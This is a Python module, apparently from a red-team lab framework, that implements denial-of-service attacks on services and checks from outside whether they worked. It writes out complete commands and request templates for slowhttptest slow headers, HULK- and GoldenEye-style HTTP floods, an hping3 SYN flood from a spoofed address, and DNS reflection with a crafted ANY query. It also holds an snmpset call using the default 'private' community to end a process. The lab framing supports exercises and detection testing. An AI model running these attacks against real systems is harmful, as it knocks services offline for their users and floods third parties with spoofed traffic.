"""Taking a service away from its users, and measuring from outside that it is gone."""

from __future__ import annotations

import json
import re
from abc import abstractmethod
from collections.abc import Iterable
from typing import Any, ClassVar

from labs.scenario import Stage

from .base import Exchange, Receipt, Red, Tool
from .kit import IMPACT, exchange, literal, number, obtained, receipt
from .means_b_inside import SNMP
from .means_b_kit import DIG, HPING, UDP, Command, Scripted, Single, by_hand, nobody

SIEGE_S = 6
MOST_SIEGE_S = 15
SOCKETS = 70
"""More than a weak server has workers, fewer than workers and queue together: a look still gets its connection."""
LOOKS_LOST = 2
SIEGE_BYTES = 20_000
"""What it takes to fill a weak server with `SOCKETS` connections and a request on each, about."""
HALF_OPEN_PER_S, SYN_BYTES = 200, 60
AMPLIFIED = 5.0
RUN_STATUS = "1.3.6.1.2.1.25.4.2.1.7.211"
"""HOST-RESOURCES-MIB hrSWRunStatus of some process; setting it to 4 (invalid) ends the process."""


class Siege(Single):
    """Holds a service under siege. Seen to succeed when looks during it find the door open and nobody in.

    A block looks otherwise: then the door cannot be reached.
    """

    service_kinds = ("http",)
    countered_by = ("patch_vulnerability", "close_port", "stop_process")
    port = 80
    classification = "attempted-dos"
    app: ClassVar[str | None] = "http"
    bytes_needed = SIEGE_BYTES
    lost: ClassVar[str] = "silent"

    @abstractmethod
    def means_of_siege(self, red: Red, stage: Stage, seconds: int) -> dict[str, Any]:
        """``tool``, or ``sockets``, ``request`` and ``every_s``."""

    def run(self, red: Red, stage: Stage) -> Receipt:
        """At most `MOST_SIEGE_S` seconds."""
        started, seconds = red.clock_s(), number(stage, "seconds", SIEGE_S, MOST_SIEGE_S)
        order = {"host": str(stage.target), "port": self.at(stage), "seconds": seconds, "tool": None}
        order |= self.means_of_siege(red, stage, seconds)
        command = by_hand("besiege", json.dumps(order), timeout_s=seconds * 2 + 12)
        done = red.run(command.argv, timeout_s=command.timeout_s, stdin=command.stdin)
        return receipt(red, stage, started, measured=self.fallen(done.stdout), detail=done.stdout or done.stderr)

    def fallen(self, text: str) -> bool:
        """Whether it answered before, and was silent more than once during the siege."""
        try:
            seen: dict[str, list[str]] = json.loads(text)
        except ValueError:
            return False
        return seen["before"] == ["answered"] and seen["during"].count(self.lost) >= LOOKS_LOST


class SlowHttp(Siege):
    """Requests that never end."""

    id = "slow-http"
    about = "slowhttptest holds a web server's connections with requests that never end"
    tactic = IMPACT
    technique = "T1499.002"
    tools = (Tool(program="slowhttptest", package="slowhttptest"),)
    sid = 9002036
    alerts = 5

    def means_of_siege(self, red: Red, stage: Stage, seconds: int) -> dict[str, Any]:
        """Slow headers."""
        url = f"http://{literal(stage.target)}:{self.at(stage)}/"
        argv = ["slowhttptest", "-H", "-c", str(SOCKETS), "-r", "50", "-i", "3", "-l", str(seconds + 2), "-u", url]
        return {"tool": argv}


class HttpFlood(Siege):
    """Requests that no cache answers, as many as there are connections, again and again."""

    id = "http-flood"
    about = "A flood of requests, each another (in the manner of HULK)"
    tactic = IMPACT
    technique = "T1499.002"
    sid = 9002037
    alerts = 16

    def means_of_siege(self, red: Red, stage: Stage, seconds: int) -> dict[str, Any]:
        """Some hundred requests a second."""
        request = f"GET /?q=%d HTTP/1.1\r\nHost: {stage.target}\r\nCache-Control: no-cache\r\n\r\n"
        return {"sockets": SOCKETS, "request": request, "every_s": 0.2}


class Goldeneye(Siege):
    """Connections that are kept alive for nothing."""

    id = "goldeneye"
    about = "Kept-alive connections occupy a web server (in the manner of GoldenEye)"
    tactic = IMPACT
    technique = "T1499.002"
    sid = 9002038
    alerts = 6

    def means_of_siege(self, red: Red, stage: Stage, seconds: int) -> dict[str, Any]:
        """A request on each connection every second."""
        head = f"GET /?%d HTTP/1.1\r\nHost: {stage.target}\r\nKeep-Alive: 115\r\nConnection: keep-alive\r\n\r\n"
        return {"sockets": SOCKETS, "request": head, "every_s": 1.0}


class SynHalfOpen(Siege):
    """Half-open connections fill the queue. Seen to succeed when nobody gets in, and somebody does afterwards."""

    id = "syn-half-open"
    about = "hping3 fills a server's queue of half-open connections"
    tactic = IMPACT
    technique = "T1499.001"
    tools = (HPING,)
    countered_by = ("harden_kernel", "close_port", "stop_process")
    sid, app, handshake = 9002039, None, False
    alerts = 6
    lost = "unreachable"

    def exchanges(self, stage: Stage) -> tuple[Exchange, ...]:
        """Connections by the own address to look, and a flood that needs no answer."""
        rate = HALF_OPEN_PER_S * SYN_BYTES
        flood = exchange(stage, self.at(stage), two_way=False)
        more = {"bytes_needed": rate * 2, "bytes_per_s": rate, "patience_s": float(SIEGE_S)}
        return (exchange(stage, self.at(stage)), flood.model_copy(update=more))

    def means_of_siege(self, red: Red, stage: Stage, seconds: int) -> dict[str, Any]:
        """Two hundred a second, in the name of nobody."""
        argv = ["hping3", "-q", "-n", "-S", "-a", str(nobody(red.address())), "-p", str(self.at(stage))]
        return {"tool": [*argv, "-i", "u5000", "-c", str(seconds * 200), str(stage.target)]}

    def fallen(self, text: str) -> bool:
        """Only if the service came back by itself: what stays away was blocked."""
        return super().fallen(text) and json.loads(text)["after"] == ["answered"]


class Reflection(Single):
    """Questions in another's name, whose answers are many times as large. Measured with two in the own name."""

    id = "reflection"
    about = "A name server is made to answer somebody who never asked"
    tactic = IMPACT
    technique = "T1498.002"
    service_kinds = ("dns",)
    tools = (DIG, HPING)
    countered_by = ("patch_vulnerability", "close_port", "stop_process")
    port = 53
    transport = UDP
    sid, classification, app, handshake = 9002040, "attempted-dos", "dns", False
    alerts = 7

    def run(self, red: Red, stage: Stage) -> Receipt:
        """Three hundred questions, a measurement before and after."""
        started, port = red.clock_s(), self.at(stage)
        argv = ["dig", f"@{stage.target}", "-p", str(port), "+notcp", "+ignore", "+time=1", "+tries=1", "+noedns"]
        first = red.run([*argv, "house.example", "ANY"], timeout_s=5)
        question = red.scratch() / "question"
        question.write_bytes(bytes.fromhex("5ec1010000010000000000000568 6f757365076578616d706c650000ff0001"))
        flood = ["hping3", "-q", "-n", "--udp", "-a", str(nobody(red.address())), "-p", str(port), "-i", "u5000"]
        size = str(question.stat().st_size)
        red.run([*flood, "-c", "300", "-d", size, "-E", str(question), str(stage.target)], timeout_s=8)
        last = red.run([*argv, "house.example", "ANY"], timeout_s=5)
        factor = min(amplification(first.stdout), amplification(last.stdout))
        canary = obtained(red, stage, last.stdout) if factor >= AMPLIFIED else None
        return receipt(red, stage, started, canary=canary, detail=f"amplification {factor:.1f}")


class ServiceStop(Scripted):
    """A process of a device is ended by its management. Our agent only says that it was."""

    id = "service-stop"
    about = "snmpset ends a process with the community everybody knows"
    tactic = IMPACT
    technique = "T1489"
    service_kinds = ("snmp",)
    tools = (Tool(program="snmpset", package=SNMP.package),)
    countered_by = ("patch_vulnerability", "close_port", "stop_process")
    port = 161
    transport = UDP
    sid, classification, app, handshake = 9002041, "attempted-admin", "snmp", False

    def commands(self, red: Red, stage: Stage) -> Iterable[Command]:
        """One set."""
        agent = f"udp:{literal(stage.target)}:{self.at(stage)}"
        yield Command(["snmpset", "-v2c", "-c", "private", "-t", "1", "-r", "1", "-On", agent, RUN_STATUS, "i", "4"])


def amplification(text: str) -> float:
    """Answer over question, in bytes, as dig tells it; 0 without an answer."""
    found = re.search(r"MSG SIZE\s+rcvd: (\d+)", text)
    return int(found[1]) / 31 if found else 0.0
